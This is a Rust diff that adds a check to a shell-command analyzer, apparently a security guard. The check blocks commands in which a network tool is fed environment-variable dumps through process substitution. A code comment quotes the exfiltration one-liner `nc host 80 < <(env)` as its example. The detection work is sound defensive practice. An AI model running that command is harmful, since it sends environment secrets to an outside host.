@@ -72,6 +72,29 @@ impl Analyzer<'_> {
                         .is_some_and(|(n, v)| traces_wire(n, &Word::lit(v)))
                 })
         });
+        // `nc host 80 < <(env)`: the dump fed in by a redirect.
+        for c in &script.commands {
+            let argv = peeled(&c.argv);
+            let sink = argv
+                .first()
+                .map(|w| lower(&base_name(&w.text)))
+                .unwrap_or_default();
+            let network = tables::FETCHERS.contains(&sink.as_str());
+            let fed_env = c.redirects.iter().any(|r| {
+                r.op == "<"
+                    && r.target.procsub
+                    && r.target
+                        .subs
+                        .iter()
+                        .filter_map(|&k| script.commands.get(k))
+                        .any(|k| {
+                            dumps_env(peeled(&k.argv)) && !super::readonly::names_only(k, script)
+                        })
+            });
+            if network && fed_env {
+                self.block("sends the environment over the network (exfiltration)");
+            }
+        }
         for c in &script.commands {
             let Some(from) = c.stdin_from else { continue };
             let src = &script.commands[from];
